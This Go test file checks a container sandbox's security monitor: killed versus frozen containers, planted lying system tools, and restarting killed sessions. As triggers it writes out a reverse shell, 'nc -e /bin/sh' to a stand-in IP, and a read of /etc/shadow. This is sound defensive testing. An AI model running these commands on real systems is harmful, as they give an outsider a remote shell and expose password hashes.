//go:build attack

package attack

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/code-on-incus/coi/pkg/home"
	"github.com/code-on-incus/coi/pkg/run"
	"github.com/code-on-incus/coi/test/internal/house"
)

// notEnded tells why a container is not at its end, nil when it is. A frozen container has not ended.
func notEnded(container string) error {
	out, err := exec.Command("incus", "list", "-f", "csv", "-c", "ns", "^"+container+"$").Output()
	if err != nil {
		return err
	}
	if _, state, there := strings.Cut(strings.TrimSpace(string(out)), ","); there && state != "STOPPED" {
		return fmt.Errorf("%s is %s", container, state)
	}
	return nil
}

// awaitGo runs what goOn writes: the monitor reads a whole command line at its
// start, so what it must not know yet is not in there.
const awaitGo = "until [ -e /workspace/go ]; do sleep 0.1; done; . /workspace/go; "

func goOn(t *testing.T, dir, script string) {
	t.Helper()
	if err := home.WriteFile(dir+"/go.new", []byte(script+"\n")); err != nil {
		t.Fatal(err)
	}
	if err := errors.Join(os.Chmod(dir+"/go.new", 0o644), os.Rename(dir+"/go.new", dir+"/go")); err != nil {
		t.Fatal(err)
	}
}

// R-TST-01: what the tests take for killed is not true of a container that is
// only frozen, and is true of one that the monitor ended.
func TestKilledIsNotFrozen(t *testing.T) {
	dir := workspace(t)
	s := begin(t, dir, awaitGo+"sleep 60")
	s.underway()
	must(t, dir, "freeze", s.container)
	if notEnded(s.container) == nil {
		t.Fatal("a frozen container passes for a killed one")
	}
	must(t, dir, "unfreeze", s.container)
	if notEnded(s.container) == nil {
		t.Fatal("a running container passes for a killed one")
	}
	goOn(t, dir, "nc -e /bin/sh 198.51.100.7 4242")
	if err := house.Eventually(t.Context(), time.Minute, func() error { return notEnded(s.container) }); err != nil {
		t.Errorf("%v\n%s", err, s.out.String())
	}
	if got := rulesOf(t, s.container, "critical"); !strings.Contains(strings.Join(got, "\n"), "(killed)") {
		t.Errorf("the trail has %v; want the end told", got)
	}
}

// R-REG-13: programs inside that lie, put there by container root, hide nothing:
// the monitor asks none of them.
func TestLyingProgramsHideNothing(t *testing.T) {
	dir := workspace(t)
	s := begin(t, dir, `for p in ps ss top find ls cat lsof netstat; do printf '#!/bin/sh\nexit 0\n' | sudo tee /usr/local/bin/$p >/dev/null; sudo chmod 755 /usr/local/bin/$p; done; hash -r
export PATH=/usr/local/bin:$PATH; test -z "$(ps aux)" && touch /workspace/lying; `+awaitGo+"/usr/bin/sleep 60")
	err := house.Eventually(t.Context(), 20*time.Second, func() error {
		_, err := os.Stat(dir + "/lying")
		return err
	})
	if err != nil {
		t.Fatalf("control: the programs inside do not lie: %v\n%s", err, s.out.String())
	}
	goOn(t, dir, "sudo /usr/bin/cat /etc/shadow >/dev/null")
	s.status("frozen", func(st run.WatchStatus) bool { return st.Frozen != nil })
}

// S54 S58: a kept container that the monitor killed is named by coi list, starts
// again only with consent, and starts anew: nothing that ran in it goes on.
func TestKilledSession(t *testing.T) {
	dir := workspace(t)
	name := launched(t, dir, "--persistent")
	must(t, dir, "tmux", "send", name, "sudo touch /run/witness; sleep 98765 & touch up")
	err := house.Eventually(t.Context(), 30*time.Second, func() error { _, err := os.Stat(dir + "/up"); return err })
	if err != nil {
		t.Fatal(err)
	}
	const look = "test -e /run/witness && echo file; pgrep -f 'sleep 9876[5]' >/dev/null && echo process; true"
	if r := must(t, dir, "container", "exec", name, "--", "sh", "-c", look); r.Stdout != "file\nprocess\n" {
		t.Fatalf("control: what is to be lost is not there: %s", r)
	}
	must(t, dir, "tmux", "send", name, "nc -e /bin/sh 198.51.100.7 4242")
	if err := house.Eventually(t.Context(), time.Minute, func() error { return notEnded(name) }); err != nil {
		t.Fatal(err)
	}
	err = house.Eventually(t.Context(), 30*time.Second, func() error {
		if r := do(t, dir, "list"); r.Code != 0 || !strings.Contains(r.Stdout, "killed by monitor") || !strings.Contains(r.Stdout, name) {
			return errors.New(r.String())
		}
		return nil
	})
	if err != nil {
		t.Error(err)
	}
	again := []string{"shell", "--background", "--debug", "--persistent"}
	if r := do(t, dir, again...); r.Code != 2 || !strings.Contains(r.Stderr, "killed by the monitor") || !strings.Contains(r.Stderr, "--start-killed") {
		t.Errorf("%s\nwant exit 2 and the flag of consent", r)
	}
	if r := must(t, dir, append(again, "--start-killed")...); strings.TrimSpace(r.Stdout) != name {
		t.Errorf("%s\nwant %s", r, name)
	}
	if r := must(t, dir, "container", "exec", name, "--", "sh", "-c", look); r.Stdout != "" {
		t.Errorf("something of the killed session goes on: %s", r)
	}
	if r := must(t, dir, "list"); strings.Contains(r.Stdout, "stopped (killed") {
		t.Errorf("%s\nwant no word of killed for what runs", r)
	}
}
